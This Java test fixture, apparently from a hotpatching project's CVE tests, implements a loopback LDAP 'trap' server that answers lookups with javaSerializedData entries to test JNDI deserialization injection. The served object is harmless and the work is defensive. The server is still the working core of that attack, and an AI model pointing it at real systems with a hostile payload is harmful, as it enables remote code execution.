package dev.hotpatch.testdata.cve;

import dev.hotpatch.testdata.cve.programs.Souvenir;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * The attacker's directory on loopback: as much of LDAP (RFC 4511) as the JDK's client needs for a lookup. Under every name there is
 * one serialized object, harmless, of a class that the victim has.
 */
final class LdapTrap implements AutoCloseable {
    private static final int BIND_REQUEST = 0x60;
    private static final int BIND_RESPONSE = 0x61;
    private static final int SEARCH_REQUEST = 0x63;
    private static final int SEARCH_ENTRY = 0x64;
    private static final int SEARCH_DONE = 0x65;
    private static final int UNBIND_REQUEST = 0x42;
    private static final int INTEGER = 2;
    private static final int OCTETS = 4;
    private static final int ENUMERATED = 10;
    private static final int SEQUENCE = 0x30;
    private static final int SET = 0x31;
    private static final int MAX_ELEMENT = 1 << 16;
    private static final int PATIENCE_MILLIS = 20_000;

    private final ServerSocket listener;
    private final byte[] bait;
    private final List<String> asked = new ArrayList<>();

    private LdapTrap(ServerSocket listener, byte[] bait) {
        this.listener = listener;
        this.bait = bait;
    }

    /** @param token what the object in the directory says when it comes to life */
    static LdapTrap set(String token) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(new Souvenir(token));
        }
        LdapTrap trap = new LdapTrap(new ServerSocket(0, 10, InetAddress.getLoopbackAddress()), bytes.toByteArray());
        Thread thread = new Thread(trap::serve, "ldap trap");
        thread.setDaemon(true);
        thread.start();
        return trap;
    }

    int port() {
        return listener.getLocalPort();
    }

    /** The names that were looked up so far. */
    List<String> asked() {
        synchronized (asked) {
            return List.copyOf(asked);
        }
    }

    private void serve() {
        while (!listener.isClosed()) {
            try (Socket client = listener.accept()) {
                client.setSoTimeout(PATIENCE_MILLIS);
                talk(client);
            } catch (SocketException closed) {
                // The trap is taken away, or the victim hung up: what it asked for is noted.
            } catch (IOException e) {
                synchronized (asked) {
                    asked.add("? " + e);
                }
            }
        }
    }

    private void talk(Socket client) throws IOException {
        DataInputStream in = new DataInputStream(client.getInputStream());
        for (int outer = in.read(); outer == SEQUENCE; outer = in.read()) {
            Element message = new Element(in.readNBytes(length(in)));
            byte[] id = message.next(INTEGER);
            int operation = message.peek();
            switch (operation) {
                case BIND_REQUEST -> client.getOutputStream().write(message(id, BIND_RESPONSE, success()));
                case SEARCH_REQUEST -> {
                    byte[] name = new Element(message.next(SEARCH_REQUEST)).next(OCTETS);
                    synchronized (asked) {
                        asked.add(new String(name, StandardCharsets.UTF_8));
                    }
                    client.getOutputStream().write(message(id, SEARCH_ENTRY, join(element(OCTETS, name), entry())));
                    client.getOutputStream().write(message(id, SEARCH_DONE, success()));
                }
                case UNBIND_REQUEST -> {
                    return;
                }
                default -> throw new IOException("an LDAP operation of tag " + operation + " was not expected");
            }
        }
    }

    private byte[] entry() {
        byte[] type = Souvenir.class.getName().getBytes(StandardCharsets.UTF_8);
        return element(SEQUENCE, join(attribute("javaClassName", type), attribute("javaSerializedData", bait)));
    }

    private static byte[] attribute(String name, byte[] value) {
        byte[] type = element(OCTETS, name.getBytes(StandardCharsets.US_ASCII));
        return element(SEQUENCE, join(type, element(SET, element(OCTETS, value))));
    }

    private static byte[] success() {
        byte[] empty = element(OCTETS, new byte[0]);
        return join(element(ENUMERATED, new byte[1]), join(empty, empty));
    }

    private static byte[] message(byte[] id, int operation, byte[] content) {
        return element(SEQUENCE, join(element(INTEGER, id), element(operation, content)));
    }

    /** Every length in its longest form of two bytes, which is as good as the shortest. */
    private static byte[] element(int tag, byte[] content) {
        byte[] head = {(byte) tag, (byte) 0x82, (byte) (content.length >> 8), (byte) content.length};
        return join(head, content);
    }

    private static byte[] join(byte[] first, byte[] second) {
        ByteArrayOutputStream joined = new ByteArrayOutputStream();
        joined.writeBytes(first);
        joined.writeBytes(second);
        return joined.toByteArray();
    }

    private static int length(DataInputStream in) throws IOException {
        int length = in.readUnsignedByte();
        if (length > 0x80) {
            int bytes = length & 0x7f;
            length = 0;
            for (int i = 0; i < bytes && length < MAX_ELEMENT; i++) {
                length = length << 8 | in.readUnsignedByte();
            }
        }
        if (length > MAX_ELEMENT) {
            throw new IOException("an LDAP element of " + length + " bytes, more than " + MAX_ELEMENT);
        }
        return length;
    }

    @Override
    public void close() throws IOException {
        listener.close();
    }

    /** The elements within one. */
    private static final class Element {
        private final byte[] bytes;
        private final DataInputStream in;

        Element(byte[] bytes) {
            this.bytes = bytes;
            this.in = new DataInputStream(new ByteArrayInputStream(bytes));
        }

        int peek() throws IOException {
            int at = bytes.length - in.available();
            if (at == bytes.length) {
                throw new IOException("an LDAP message ends too early");
            }
            return bytes[at] & 0xff;
        }

        byte[] next(int tag) throws IOException {
            int found = peek();
            if (in.readUnsignedByte() != tag) {
                throw new IOException("an LDAP element of tag " + found + ", expected " + tag);
            }
            return in.readNBytes(length(in));
        }
    }
}
